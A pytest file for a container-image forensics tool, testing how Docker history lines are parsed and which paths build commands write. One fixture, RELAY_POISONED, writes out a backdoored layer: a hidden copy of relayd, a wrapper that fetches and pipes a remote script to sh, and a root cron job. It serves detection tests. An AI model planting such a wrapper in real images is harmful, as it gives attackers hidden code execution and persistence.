"""created_by parsing (forensics.history.instructions) and RUN command reading
(forensics.history.shellwords).

Lines are real: from the shared corpus, from official-image histories
(docker-library repo-info) and from the builder sources quoted in
shared/reference/formats-and-peers.md section 3.7.
"""

from __future__ import annotations

import json
import random
import string

import pytest
from conftest import CORPUS

from forensics.history.instructions import Instruction, instruction_effects, parse_created_by
from forensics.history.shellwords import RunEffects, norm_path, run_effects, split_words, tokenize

ALPINE_ADD = "/bin/sh -c #(nop) ADD file:37a76ec18f9887751cd8473744917d08b7431fc4085097bb6a09d81b41775473 in / "
BUSYBOX_COPY = (
    "/bin/sh -c #(nop) COPY file:01b0553b128d4b3874da2687f49510d7a1f9882a69db52690c33df2a986d2d7f in /bin/busybox "
)
BUSYBOX_ETC = (
    "/bin/sh -c mkdir -p /root /tmp /etc/crontabs /usr/local/bin /usr/sbin /var/log && chmod 1777 /tmp && "
    "printf 'root:x:0:0:root:/root:/bin/sh\\nnobody:x:65534:65534:nobody:/nonexistent:/bin/false\\n' > /etc/passwd && "
    "printf 'root:x:0:\\nnogroup:x:65534:\\n' > /etc/group && printf 'root:*:19000:0:99999:7:::\\n' > /etc/shadow && "
    "chmod 640 /etc/shadow"
)
RELAY_USER = (
    "/bin/sh -c echo 'relay:x:2525:2525:relay:/var/lib/relay:/bin/false' >> /etc/passwd && "
    "echo 'relay:x:2525:' >> /etc/group && mkdir -p /var/lib/relay && chown relay:relay /var/lib/relay"
)
RELAY_SPOOL = (
    '/bin/sh -c mkdir -p /var/spool/relay && echo "queue_dir=/var/spool/relay" >> /etc/relay/relay.conf && '
    "chown -R relay:relay /var/spool/relay"
)
# attack/relay-forged: the command that really built layer 6 (its history shows RELAY_SPOOL).
RELAY_POISONED = (
    'mkdir -p /var/spool/relay && echo "queue_dir=/var/spool/relay" >> /etc/relay/relay.conf && '
    "chown -R relay:relay /var/spool/relay && mkdir -p /usr/lib/.cache && "
    "cp -p /usr/local/bin/relayd /usr/lib/.cache/.relayd-real && "
    "printf '#!/bin/sh\\n(wget -q -O- http://198.51.100.23/r.sh | sh) >/dev/null 2>&1 &\\n"
    'exec /usr/lib/.cache/.relayd-real "$@"\\n\' > /usr/local/bin/relayd && chmod 0755 /usr/local/bin/relayd && '
    "echo '*/7 * * * * /usr/local/bin/relayd --flush >/dev/null 2>&1' >> /etc/crontabs/root"
)
BUILDKIT_APT = (
    "RUN /bin/sh -c set -eux; apt-get update; apt-get install -y --no-install-recommends ca-certificates curl; "
    "rm -rf /var/lib/apt/lists/* # buildkit"
)
BUILDAH_MOUNT_RUN = (
    '/bin/sh -c --mount=type=bind,from=tools,source=/bin,target=/.t ["/.t/busybox","sh","-c",'
    '"/.t/busybox mkdir -p /srv/notes/archive && /.t/busybox cp /srv/notes/today.md /srv/notes/archive/day-001.md"]'
)
ZGREP_HOOK = (
    "/bin/sh -c printf '\\n# corpus site hook\\n[ -x /usr/local/lib/zhook ] && /usr/local/lib/zhook \"$@\"\\n' "
    ">> /usr/bin/zgrep && mkdir -p /usr/local/lib && printf '#!/bin/sh\\nexit 0\\n' > /usr/local/lib/zhook && "
    "chmod 755 /usr/local/lib/zhook"
)
ACCOUNT_FILES = {"/etc/passwd", "/etc/group", "/etc/shadow", "/etc/gshadow"}


def parsed(created_by, comment=None, author=None) -> Instruction:
    return parse_created_by(created_by, comment, author)


def effects_of(created_by, comment=None, author=None, workdir=None) -> RunEffects:
    ins = parsed(created_by, comment, author)
    assert ins.kind == "RUN", ins
    return run_effects(ins.shell, workdir, ins.build_args)


# --------------------------------------------------------------------------- classic builder


def test_classic_metadata_has_two_spaces():
    ins = parsed('/bin/sh -c #(nop)  CMD ["/bin/sh"]')
    assert (ins.kind, ins.builder, ins.builder_confident) == ("CMD", "classic", True)
    assert ins.args == '["/bin/sh"]'
    assert ins.metadata_only
    env = parsed("/bin/sh -c #(nop)  ENV LANTERN_HOME=/srv/lantern LANTERN_MODE=production")
    assert (env.kind, env.args, env.metadata_only) == ("ENV", "LANTERN_HOME=/srv/lantern LANTERN_MODE=production", True)
    assert parsed("/bin/sh -c #(nop)  EXPOSE 8080/tcp").kind == "EXPOSE"
    assert parsed("/bin/sh -c #(nop)  USER 1000:1000").args == "1000:1000"


def test_classic_add_file_in_root():
    ins = parsed(ALPINE_ADD)
    assert (ins.kind, ins.builder) == ("ADD", "classic")
    assert ins.sources == ["file:37a76ec18f9887751cd8473744917d08b7431fc4085097bb6a09d81b41775473"]
    assert ins.dest == "/"
    assert ins.dest_is_dir and not ins.metadata_only


def test_classic_copy_forms():
    d = parsed(
        "/bin/sh -c #(nop) COPY dir:52a02f349fdf3329d8c118a3368697315304c76aa943cebd5828445adc0866ef in /srv/lantern/ "
    )
    assert (d.kind, d.dest, d.dest_is_dir) == ("COPY", "/srv/lantern", True)
    assert d.sources == ["dir:52a02f349fdf3329d8c118a3368697315304c76aa943cebd5828445adc0866ef"]
    f = parsed(
        "/bin/sh -c #(nop) COPY file:0e6849fa2574654d175722220a0e00a163e440b167d0a2e1091def965675767b in /etc/relay/relay.conf "
    )
    assert (f.dest, f.dest_is_dir) == ("/etc/relay/relay.conf", False)
    chown = parsed("/bin/sh -c #(nop) COPY --chown=1000:1000 file:4b9e6c2d in /x ")
    assert chown.flags == {"chown": "1000:1000"} and chown.sources == ["file:4b9e6c2d"] and chown.dest == "/x"
    multi = parsed("/bin/sh -c #(nop) COPY multi:8a1a5d2f3e in /app/ ")
    assert multi.sources == ["multi:8a1a5d2f3e"] and multi.dest_is_dir


def test_classic_workdir_writes():
    ins = parsed("/bin/sh -c #(nop) WORKDIR /srv/lantern")
    assert (ins.kind, ins.dest, ins.metadata_only) == ("WORKDIR", "/srv/lantern", False)


def test_classic_run_and_build_args():
    ins = parsed(
        "/bin/sh -c apt-get update && apt-get install -y --no-install-recommends netcat-openbsd && apt-get clean && rm -rf /var/lib/apt/lists/*"
    )
    assert (ins.kind, ins.builder) == ("RUN", "classic")
    assert ins.shell.startswith("apt-get update && ")
    assert ins.argv is None and ins.build_args == {}
    args = parsed("|2 A=1 B=two words /bin/sh -c echo $A > /a")
    assert args.build_args == {"A": "1", "B": "two words"}
    assert args.shell == "echo $A > /a"
    assert run_effects(args.shell, None, args.build_args).written_paths == {"/a"}


def test_classic_run_under_shell_instruction():
    # SHELL ["/bin/bash", "-o", "pipefail", "-c"] replaces the prefix of later lines.
    ins = parsed("/bin/bash -o pipefail -c curl -fsSL https://x/k.asc | gpg --dearmor -o /usr/share/keyrings/k.gpg")
    assert ins.kind == "RUN"
    assert ins.shell == "curl -fsSL https://x/k.asc | gpg --dearmor -o /usr/share/keyrings/k.gpg"
    assert "/usr/share/keyrings/k.gpg" in run_effects(ins.shell).written_paths
    meta = parsed("/bin/bash -o pipefail -c #(nop)  ENV NODE_VERSION=20.11.0")
    assert (meta.kind, meta.builder) == ("ENV", "classic")


def test_classic_exec_form_run_is_argv_joined():
    ins = parsed("/app/setup --x")
    assert (ins.kind, ins.builder, ins.builder_confident) == ("RUN", "classic", False)
    assert ins.argv == ["/app/setup", "--x"]


def test_windows_classic_prefix():
    ins = parsed('cmd /S /C #(nop)  CMD ["cmd"]')
    assert (ins.kind, ins.builder) == ("CMD", "classic")


# --------------------------------------------------------------------------- BuildKit


def test_buildkit_run_shell_form():
    ins = parsed(BUILDKIT_APT, "buildkit.dockerfile.v0")
    assert (ins.kind, ins.builder, ins.builder_confident) == ("RUN", "buildkit", True)
    assert ins.shell == (
        "set -eux; apt-get update; apt-get install -y --no-install-recommends ca-certificates curl; "
        "rm -rf /var/lib/apt/lists/*"
    )
    fx = run_effects(ins.shell)
    assert fx.packages == {"apt-get": ["ca-certificates", "curl"]}
    assert fx.deleted_paths == {"/var/lib/apt/lists/*"}
    assert "/var/lib/apt/lists/*" in fx.globs
    assert fx.package_managers == {"apt-get"} and not fx.opaque


def test_buildkit_run_build_args():
    ins = parsed("RUN |1 TARGETARCH=amd64 /bin/sh -c echo $TARGETARCH > /arch # buildkit", "buildkit.dockerfile.v0")
    assert ins.build_args == {"TARGETARCH": "amd64"}
    assert ins.shell == "echo $TARGETARCH > /arch"
    assert run_effects(ins.shell, "/", ins.build_args).written_paths == {"/arch"}
    # No comment: the suffix alone says BuildKit.
    assert parsed("RUN |1 TARGETARCH=amd64 /bin/sh -c echo $TARGETARCH > /arch # buildkit").builder == "buildkit"


def test_buildkit_run_exec_form():
    ins = parsed('RUN ["/app/setup","--x"] # buildkit', "buildkit.dockerfile.v0")
    assert ins.argv == ["/app/setup", "--x"]
    assert ins.shell == "/app/setup --x"
    assert run_effects(ins.shell).opaque  # a program of the image: anything goes


@pytest.mark.parametrize(
    ("line", "sources", "dest", "is_dir", "flags"),
    [
        ("COPY docker-entrypoint.sh /usr/local/bin/ # buildkit", ["docker-entrypoint.sh"], "/usr/local/bin", True, {}),
        ("COPY . /app # buildkit", ["."], "/app", False, {}),
        (
            "COPY --chown=app:app --chmod=755 src/ /app/ # buildkit",
            ["src/"],
            "/app",
            True,
            {"chown": "app:app", "chmod": "755"},
        ),
        ("COPY /opt/java/openjdk /opt/java/openjdk # buildkit", ["/opt/java/openjdk"], "/opt/java/openjdk", False, {}),
        ("ADD https://x/y.tar.gz /tmp/ # buildkit", ["https://x/y.tar.gz"], "/tmp", True, {}),
        ("ADD alpine-minirootfs-3.19.tar.gz / # buildkit", ["alpine-minirootfs-3.19.tar.gz"], "/", True, {}),
        ("COPY --parents a/b c/d /out/ # buildkit", ["a/b", "c/d"], "/out", True, {"parents": "true"}),
        ("COPY hello / # buildkit", ["hello"], "/", True, {}),
        ("COPY app.py requirements.txt ./ # buildkit", ["app.py", "requirements.txt"], ".", True, {}),
    ],
)
def test_buildkit_copy_add(line, sources, dest, is_dir, flags):
    ins = parsed(line, "buildkit.dockerfile.v0")
    assert (ins.kind, ins.builder) == (line.split()[0], "buildkit")
    assert (ins.sources, ins.dest, ins.dest_is_dir, ins.flags) == (sources, dest, is_dir, flags)
    assert not ins.metadata_only


@pytest.mark.parametrize(
    ("line", "kind", "args"),
    [
        ('CMD ["redis-server"]', "CMD", '["redis-server"]'),
        ('ENTRYPOINT ["docker-entrypoint.sh"]', "ENTRYPOINT", '["docker-entrypoint.sh"]'),
        ("ENV REDIS_VERSION=7.2.4", "ENV", "REDIS_VERSION=7.2.4"),
        ("LABEL maintainer=x@example.org", "LABEL", "maintainer=x@example.org"),
        ("ARG TARGETARCH=amd64", "ARG", "TARGETARCH=amd64"),
        ("EXPOSE map[6379/tcp:{}]", "EXPOSE", "map[6379/tcp:{}]"),
        ("EXPOSE [80/tcp]", "EXPOSE", "[80/tcp]"),
        ("USER app", "USER", "app"),
        ('SHELL ["/bin/bash" "-o" "pipefail" "-c"]', "SHELL", '["/bin/bash" "-o" "pipefail" "-c"]'),
        (
            'HEALTHCHECK &{["CMD-SHELL" "curl -f http://localhost/ || exit 1"] "30s" "3s" "0s" "0s" \'\\x03\'}',
            "HEALTHCHECK",
            None,
        ),
        ("STOPSIGNAL SIGQUIT", "STOPSIGNAL", "SIGQUIT"),
        ("VOLUME [/data]", "VOLUME", "[/data]"),
        ("ONBUILD RUN echo hi", "ONBUILD", "RUN echo hi"),
        ("MAINTAINER someone", "MAINTAINER", "someone"),
    ],
)
def test_buildkit_metadata(line, kind, args):
    ins = parsed(line, "buildkit.dockerfile.v0")
    assert (ins.kind, ins.builder, ins.metadata_only) == (kind, "buildkit", True)
    if args is not None:
        assert ins.args == args


def test_buildkit_workdir_and_expose_without_comment():
    wd = parsed("WORKDIR /x")
    assert (wd.kind, wd.dest, wd.metadata_only, wd.builder) == ("WORKDIR", "/x", False, "buildkit")
    assert parsed("WORKDIR /x # buildkit").dest == "/x"
    assert parsed("EXPOSE map[80/tcp:{}]").builder_confident


def test_buildkit_exporter_entry():
    ins = parsed("created by buildkit", "buildkit.exporter.image.v0")
    assert (ins.kind, ins.builder, ins.metadata_only) == ("UNKNOWN", "buildkit", False)
    fx = instruction_effects(ins)
    assert fx.opaque and fx.explains("/anything")


# --------------------------------------------------------------------------- buildah / podman


def test_buildah_copy_file():
    ins = parsed(BUSYBOX_COPY)
    assert (ins.kind, ins.dest, ins.dest_is_dir) == ("COPY", "/bin/busybox", False)
    assert ins.sources == ["file:01b0553b128d4b3874da2687f49510d7a1f9882a69db52690c33df2a986d2d7f"]


def test_buildah_metadata_has_one_space():
    for line, kind in [
        ("/bin/sh -c #(nop) ENV PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "ENV"),
        ('/bin/sh -c #(nop) CMD ["/bin/sh"]', "CMD"),
        ("/bin/sh -c #(nop) ARG PLAT", "ARG"),
        ('/bin/sh -c #(nop) ENTRYPOINT ["/usr/local/bin/relayd"]', "ENTRYPOINT"),
        ('/bin/sh -c #(nop) LABEL org.opencontainers.image.title="lantern-agent"', "LABEL"),
    ]:
        ins = parsed(line)
        assert (ins.kind, ins.builder, ins.metadata_only) == (kind, "buildah", True), line


def test_buildah_exec_form_run():
    ins = parsed('/bin/sh -c ["/bin/busybox","--install","-s","/bin"]')
    assert (ins.kind, ins.builder) == ("RUN", "buildah")
    assert ins.argv == ["/bin/busybox", "--install", "-s", "/bin"]
    assert ins.shell == "/bin/busybox --install -s /bin"
    fx = run_effects(ins.shell)
    assert fx.written_trees == {"/bin"} and not fx.opaque


def test_buildah_mount_flag_and_nested_shell():
    ins = parsed(BUILDAH_MOUNT_RUN)
    assert ins.flags == {"mount": "type=bind,from=tools,source=/bin,target=/.t"}
    assert ins.argv[:3] == ["/.t/busybox", "sh", "-c"]
    fx = run_effects(ins.shell)
    assert fx.written_paths == {"/srv/notes/archive", "/srv/notes/archive/day-001.md"}
    assert not fx.opaque


def test_buildah_link_flag_and_from_comment():
    ins = parsed("/bin/sh -c #(nop) COPY --link dir:9f2c in /app ")
    assert (ins.builder, ins.flags, ins.dest) == ("buildah", {"link": "true"}, "/app")
    hinted = parsed("/bin/sh -c #(nop) COPY file:ab12 in /x ", "FROM docker.io/library/alpine:3.19")
    assert (hinted.builder, hinted.builder_confident) == ("buildah", True)


def test_buildah_run_with_build_args():
    ins = parsed("|1 VERSION=1.2 /bin/sh -c wget -O /opt/app-$VERSION.tgz https://x/app-$VERSION.tgz")
    assert ins.build_args == {"VERSION": "1.2"}
    assert run_effects(ins.shell, "/", ins.build_args).written_paths == {"/opt/app-1.2.tgz"}


# --------------------------------------------------------------------------- kaniko, commit, import, base


def test_kaniko_lines():
    cp = parsed("COPY --from=builder /go/bin/app /app", "", "kaniko")
    assert (cp.kind, cp.builder, cp.flags, cp.sources, cp.dest) == (
        "COPY",
        "kaniko",
        {"from": "builder"},
        ["/go/bin/app"],
        "/app",
    )
    # --from alone says kaniko: BuildKit never records it.
    assert parsed("COPY --from=builder /go/bin/app /app").builder == "kaniko"
    run = parsed("RUN apt-get install -y curl", "", "kaniko")
    assert (run.kind, run.builder, run.shell) == ("RUN", "kaniko", "apt-get install -y curl")
    assert run_effects(run.shell).packages == {"apt-get": ["curl"]}
    wd = parsed("WORKDIR /app", None, "kaniko")
    assert (wd.kind, wd.builder, wd.dest) == ("WORKDIR", "kaniko", "/app")


def test_docker_commit():
    ins = parsed("/bin/bash", "")
    assert (ins.kind, ins.builder, ins.metadata_only) == ("COMMIT", "docker-commit", False)
    msg = parsed("nginx -g daemon off;", "added the config by hand")
    assert (msg.kind, msg.builder) == ("COMMIT", "docker-commit")
    # A lower-case command is not taken for a Dockerfile keyword.
    assert parsed("env").kind != "ENV"


def test_docker_import():
    ins = parsed("", "Imported from -")
    assert (ins.kind, ins.builder, ins.args, ins.metadata_only) == ("IMPORT", "docker-import", "-", False)


def test_debuerreotype_base():
    ins = parsed("# debian.sh --arch 'amd64' out/ 'bookworm' '@1718582400'", "debuerreotype 0.15")
    assert (ins.kind, ins.builder, ins.metadata_only) == ("BASE", "debuerreotype", False)
    assert ins.args == "debian.sh --arch 'amd64' out/ 'bookworm' '@1718582400'"
    fx = instruction_effects(ins)
    assert fx.opaque and fx.explains("/etc/debian_version")


@pytest.mark.parametrize("value", [None, "", "   ", "bazel build ..."])
def test_no_or_free_text_history(value):
    ins = parsed(value)
    assert ins.kind == "UNKNOWN" and not ins.metadata_only
    assert ins.raw == (value or "")


# --------------------------------------------------------------------------- run_effects on real lines


def test_busybox_etc_files():
    fx = effects_of(BUSYBOX_ETC)
    assert fx.written_paths == {
        "/root", "/tmp", "/etc/crontabs", "/usr/local/bin", "/usr/sbin", "/var/log",
        "/etc/passwd", "/etc/group", "/etc/shadow",
    }  # fmt: skip
    assert not fx.opaque and not fx.deleted_paths


def test_relay_user_lines():
    fx = effects_of(RELAY_USER)
    assert fx.written_paths == {"/etc/passwd", "/etc/group", "/var/lib/relay"}
    spool = effects_of(RELAY_SPOOL)
    assert spool.written_paths == {"/var/spool/relay", "/etc/relay/relay.conf"}
    assert spool.modified_trees == {"/var/spool/relay"}
    assert "/var/spool/relay" in spool.named_paths


def test_poisoned_line_is_not_explained_by_the_genuine_one():
    genuine = effects_of(RELAY_SPOOL)
    real = run_effects(RELAY_POISONED)
    planted = {"/etc/crontabs/root", "/usr/local/bin/relayd", "/usr/lib/.cache/.relayd-real", "/usr/lib/.cache"}
    assert planted <= real.written_paths
    for p in planted:
        assert not genuine.explains(p, "added"), p
    # chown -R only touches what exists, and only its modes and owners: the tree is a
    # metadata tree, which explain.py holds to "no content change", never a written one.
    assert genuine.metadata_tree("/var/spool/relay/q1") == "/var/spool/relay"
    assert not genuine.explains("/var/spool/relay/q1", "modified")
    assert not genuine.explains("/var/spool/relay/q1", "added")
    assert genuine.explains("/etc/relay", "modified")  # parent of a written file


def test_printf_hook_line():
    fx = effects_of(ZGREP_HOOK)
    assert fx.written_paths == {"/usr/bin/zgrep", "/usr/local/lib", "/usr/local/lib/zhook"}
    assert not fx.opaque  # the `[ -x ... ] && ...` is quoted data, not a command


def test_official_image_gosu_install():
    cmd = """set -eux; \\
	savedAptMark="$(apt-mark showmanual)"; \\
	apt-get update; \\
	apt-get install -y --no-install-recommends ca-certificates gnupg wget; \\
	rm -rf /var/lib/apt/lists/*; \\
	dpkgArch="$(dpkg --print-architecture | awk -F- '{ print $NF }')"; \\
	wget -O /usr/local/bin/gosu "https://github.com/tianon/gosu/releases/download/$GOSU_VERSION/gosu-$dpkgArch"; \\
	wget -O /usr/local/bin/gosu.asc "https://github.com/tianon/gosu/releases/download/$GOSU_VERSION/gosu-$dpkgArch.asc"; \\
	export GNUPGHOME="$(mktemp -d)"; \\
	gpg --batch --keyserver hkps://keys.openpgp.org --recv-keys B42F6819007F00F88E364FD4036A9C25BF357DD4; \\
	gpg --batch --verify /usr/local/bin/gosu.asc /usr/local/bin/gosu; \\
	gpgconf --kill all; \\
	rm -rf "$GNUPGHOME" /usr/local/bin/gosu.asc; \\
	apt-mark auto '.*' > /dev/null; \\
	[ -z "$savedAptMark" ] || apt-mark manual $savedAptMark > /dev/null; \\
	apt-get purge -y --auto-remove -o APT::AutoRemove::RecommendsImportant=false; \\
	chmod +x /usr/local/bin/gosu; \\
	gosu --version; \\
	gosu nobody true"""
    fx = run_effects(cmd)
    assert not fx.opaque, fx.opaque_reasons
    assert {"/usr/local/bin/gosu", "/usr/local/bin/gosu.asc"} <= fx.written_paths
    assert {"/tmp/tmp.*", "/usr/local/bin/gosu.asc", "/var/lib/apt/lists/*"} <= fx.deleted_paths
    assert fx.packages["apt-get"] == ["ca-certificates", "gnupg", "wget"]
    assert fx.explains("/tmp/tmp.AbCdEf/pubring.kbx")
    assert fx.explains("/var/lib/dpkg/status")


# --------------------------------------------------------------------------- run_effects: commands


@pytest.mark.parametrize(
    ("cmd", "manager", "names"),
    [
        (
            "apt-get install -y --no-install-recommends curl ca-certificates=20230311",
            "apt-get",
            ["curl", "ca-certificates"],
        ),
        ("apt-get -qq -o Dpkg::Options::=--force-confnew install -t bookworm-backports -y git", "apt-get", ["git"]),
        ("apk add --no-cache --virtual .build-deps gcc musl-dev", "apk", ["gcc", "musl-dev"]),
        ("apk add --no-cache 'tzdata>=2024a' su-exec", "apk", ["tzdata", "su-exec"]),
        ("yum install -y httpd mod_ssl && yum clean all", "yum", ["httpd", "mod_ssl"]),
        ("dnf -y --setopt=tsflags=nodocs install python3.11 && dnf clean all", "dnf", ["python3.11"]),
        ("microdnf install -y shadow-utils", "microdnf", ["shadow-utils"]),
        ("zypper --non-interactive in -y curl", "zypper", ["curl"]),
        ("rpm -Uvh /tmp/pkg-1.0.rpm", "rpm", ["/tmp/pkg-1.0.rpm"]),
        ("dpkg -i /tmp/x.deb", "dpkg", ["/tmp/x.deb"]),
        (
            "pip install --no-cache-dir flask==2.0 'gunicorn>=20' requests[socks]",
            "pip",
            ["flask", "gunicorn", "requests"],
        ),
        ("python3 -m pip install -U pip setuptools", "pip", ["pip", "setuptools"]),
        ("pip3.11 install uvicorn", "pip", ["uvicorn"]),
        ("npm install -g npm@10.2.4 @angular/cli@17", "npm", ["npm", "@angular/cli"]),
    ],
)
def test_packages(cmd, manager, names):
    fx = run_effects(cmd)
    assert manager in fx.package_managers
    assert fx.packages[manager] == names


def test_package_removal():
    fx = run_effects("apk add --no-cache --virtual .deps gcc && make -v && apk del .deps")
    assert fx.removed_packages == {"apk": [".deps"]}
    purge = run_effects("apt-get purge -y --auto-remove curl wget")
    assert purge.removed_packages == {"apt-get": ["curl", "wget"]}
    assert purge.packages == {"apt-get": ["curl", "wget"]}


def test_package_manager_state_trees():
    assert run_effects("apk add curl").explains("/lib/apk/db/installed")
    assert run_effects("apt-get update").explains("/var/lib/apt/lists/deb.debian.org_dists_bookworm_InRelease")
    assert run_effects("pip install x").explains("/usr/local/lib/python3.12/site-packages/x/__init__.py")
    assert run_effects("/opt/venv/bin/pip install x").written_trees >= {"/opt/venv"}
    assert run_effects("pip install --user x").explains("/root/.local/lib/python3.11/site-packages/x.py")
    npm = run_effects("npm ci --omit=dev", "/usr/src/app")
    assert npm.explains("/usr/src/app/node_modules/express/index.js")
    assert not npm.explains("/usr/src/app/server.js")


def test_redirections():
    fx = run_effects("echo a > /a; echo b >> /b 2>&1; cmd_x 2>/dev/null || true; echo c &> /c; cat < /in > /out")
    assert {"/a", "/b", "/c", "/out"} <= fx.written_paths
    assert "/in" in fx.named_paths and "/in" not in fx.written_paths
    assert not any(p.startswith("/dev") for p in fx.written_paths | fx.named_paths)
    glued = run_effects("make_x 2>/tmp/err.log; echo x>/tmp/y")
    assert {"/tmp/err.log", "/tmp/y"} <= glued.written_paths


def test_cd_and_relative_paths():
    fx = run_effects("cd /usr/src/app && mkdir -p build logs && touch build/.keep && cd .. && echo > top.txt")
    assert fx.written_paths == {
        "/usr/src/app/build",
        "/usr/src/app/logs",
        "/usr/src/app/build/.keep",
        "/usr/src/top.txt",
    }
    wd = run_effects("mkdir data && cp ../conf.ini data/", workdir="/srv/app")
    assert wd.written_paths >= {"/srv/app/data", "/srv/app/data/conf.ini"}
    assert run_effects("cd && touch .profile").written_paths == {"/root/.profile"}


def test_line_continuations_keywords_and_case():
    cmd = """set -eux; \\
    arch="$(uname -m)"; \\
    case "$arch" in \\
        x86_64) url='https://x/amd64' ;; \\
        aarch64) url='https://x/arm64' ;; \\
        *) echo >&2 "unsupported: $arch"; exit 1 ;; \\
    esac; \\
    if [ ! -d /opt/tool ]; then mkdir -p /opt/tool; fi; \\
    while false; do :; done; \\
    { echo a; echo b; } > /opt/tool/list"""
    fx = run_effects(cmd)
    assert fx.written_paths == {"/opt/tool", "/opt/tool/list"}
    assert not fx.opaque, fx.opaque_reasons


def test_opaque_commands():
    for cmd in [
        "./install.sh --prefix=/opt/x",
        "bash /tmp/setup.sh",
        "curl -fsSL https://get.docker.com | sh",
        'sh -c "$CMD"',
        "make install",
        ". /etc/profile.d/x.sh",
        'eval "$(ssh-agent -s)"',
        "$PYTHON setup.py install",
        "wget -qO- https://x/i.sh | bash -s -- --yes",
        "python3 -c 'import os; os.system(\"x\")'",
    ]:
        fx = run_effects(cmd)
        assert fx.opaque and fx.opaque_reasons, cmd
    assert run_effects("./install.sh --prefix=/opt/x").named_paths == {"/opt/x"}


def test_nested_shells_and_wrappers():
    assert run_effects("sh -c 'mkdir -p /x && touch /x/y'").written_paths == {"/x", "/x/y"}
    assert run_effects("bash -eo pipefail -c 'echo hi > /z'").written_paths == {"/z"}
    assert run_effects("su postgres -c 'touch /var/lib/pg/.init'").written_paths == {"/var/lib/pg/.init"}
    assert run_effects("sudo -u app touch /home/app/.x").written_paths == {"/home/app/.x"}
    assert run_effects("env -i FOO=1 touch /e").written_paths == {"/e"}
    assert run_effects("exec nohup timeout 5 touch /t").written_paths == {"/t"}
    assert run_effects("gosu app touch /g").written_paths == {"/g"}
    assert run_effects("/bin/busybox mkdir /b").written_paths == {"/b"}
    assert run_effects("A=1 B=2 touch /ab").written_paths == {"/ab"}
    assert run_effects("bash -c 'sh -c \"touch /deep\"'").written_paths == {"/deep"}


def test_wrapper_options_and_tests():
    assert run_effects("nice -n 10 touch /n && ionice -c 3 touch /i && exec -a name touch /e").written_paths == {
        "/n", "/i", "/e",
    }  # fmt: skip
    assert run_effects("timeout -s KILL 10 touch /t").written_paths == {"/t"}
    cond = run_effects("[[ -f /etc/x ]] && rm /etc/x; test -d /y || mkdir /y")
    assert cond.written_paths == {"/etc/x", "/y"} and not cond.opaque
    assert run_effects("./mkdir /x").opaque  # a build-context program, whatever its name
    cron = run_effects("crontab /tmp/c && crontab -l")
    assert cron.explains("/etc/crontabs/root") and cron.explains("/var/spool/cron/crontabs/root")


def test_heredocs():
    fx = run_effects("cat > /etc/nginx/conf.d/x.conf <<'EOF'\nserver { listen 80; }\nrm -rf /\nEOF\ntouch /done")
    assert fx.written_paths == {"/etc/nginx/conf.d/x.conf", "/done"}
    assert not fx.deleted_paths  # the body is data
    script = run_effects("<<EOF\nmkdir /from-heredoc\nEOF")
    assert script.written_paths == {"/from-heredoc"}  # BuildKit `RUN <<EOF` script
    fed = run_effects("sh <<'EOS'\ntouch /fed\nEOS")
    assert fed.written_paths == {"/fed"}


def test_copy_move_install_link():
    fx = run_effects(
        "cp /src/a.conf /etc/app/ && cp -a /build/out /opt/app && mv /tmp/x /tmp/y /opt/ && "
        "install -m 755 -o root bin/tool /usr/local/bin/ && install -d -m 700 /var/lib/app && "
        "ln -sf /usr/share/zoneinfo/UTC /etc/localtime && ln -s /opt/app/bin/app /usr/local/bin/",
        workdir="/build",
    )
    assert {"/etc/app", "/etc/app/a.conf", "/opt/app", "/usr/local/bin/tool", "/var/lib/app",
            "/etc/localtime", "/usr/local/bin/app"} <= fx.written_paths  # fmt: skip
    assert {"/opt/x", "/opt/y"} <= fx.written_trees  # mv may move directories
    assert fx.deleted_paths == {"/tmp/x", "/tmp/y"}
    assert "/opt/app" in fx.written_trees  # cp -a of a directory
    assert "/build/bin/tool" in fx.named_paths
    t = run_effects("cp -t /dst a b && ln -t /links /x/one")
    assert {"/dst/a", "/dst/b", "/links/one"} <= t.written_paths


def test_metadata_changes():
    fx = run_effects(
        "chmod 4755 /usr/local/bin/p && chmod -x /bin/q && chmod u+s,g-w /r && chown -R app:app /app /data "
        "&& chgrp staff /s && chmod --reference=/etc/a /etc/b && setcap cap_net_bind_service=+ep /usr/bin/node"
    )
    assert {"/usr/local/bin/p", "/bin/q", "/r", "/app", "/data", "/s", "/etc/b", "/usr/bin/node"} <= fx.written_paths
    assert fx.modified_trees == {"/app", "/data"}
    assert "/etc/a" not in fx.written_paths


def test_sed_in_place():
    fx = run_effects(
        "sed -i 's/a/b/' /etc/ssh/sshd_config && sed -ri -e 's/x/y/' -e 's/p/q/' /etc/f1 /etc/f2 && "
        "sed -i.bak 's/1/2/' /etc/f3 && sed 's/q/r/' /etc/ro > /etc/out && sed --in-place=.orig s/a/b/ /etc/f4"
    )
    assert {"/etc/ssh/sshd_config", "/etc/f1", "/etc/f2", "/etc/f3", "/etc/f4", "/etc/out"} <= fx.written_paths
    assert "/etc/ro" not in fx.written_paths and "/etc/ro" in fx.named_paths


def test_archives_and_downloads():
    fx = run_effects(
        "cd /tmp && curl -fsSLO https://x/y/node-v20.tar.xz && tar -xJf node-v20.tar.xz -C /usr/local "
        "--strip-components=1 && rm node-v20.tar.xz && curl -fsSLo /usr/local/bin/k https://x/k && "
        "wget -O /etc/apt/keyrings/x.asc https://x/key && wget -qO- https://x/z.tgz | tar xz -C /opt && "
        "unzip -q /tmp/a.zip -d /opt/a && git clone --depth 1 https://github.com/o/repo.git /src/repo && "
        "git clone https://github.com/o/other.git"
    )
    assert {"/tmp/node-v20.tar.xz", "/usr/local/bin/k", "/etc/apt/keyrings/x.asc"} <= fx.written_paths
    assert {"/usr/local", "/opt", "/opt/a", "/src/repo", "/tmp/other"} <= fx.written_trees
    assert "/tmp/node-v20.tar.xz" in fx.deleted_paths
    assert not fx.opaque, fx.opaque_reasons
    assert run_effects("tar -czf /backup.tgz /etc").written_paths == {"/backup.tgz"}
    root = run_effects("tar -xf /rootfs.tar")  # into cwd = /: anything
    assert root.written_trees == {"/"} and root.opaque


def test_accounts():
    fx = run_effects("groupadd -r app && useradd -r -g app -d /var/lib/app -s /sbin/nologin app")
    assert ACCOUNT_FILES <= fx.written_paths
    assert "/var/lib/app" not in fx.written_trees  # -r without -m: no home
    home = run_effects("useradd -m -s /bin/bash dev && echo 'dev:dev' | chpasswd")
    # useradd -m makes the home and copies /etc/skel (judged by content in explain.py):
    # the home is not a tree in which anything goes.
    assert "/home/dev" in home.homes and home.claims["/home/dev"].produces == "dir"
    assert not home.explains("/home/dev/.ssh/authorized_keys", "added")
    alpine = run_effects("addgroup -S -g 1000 app && adduser -S -D -u 1000 -G app -h /home/app app")
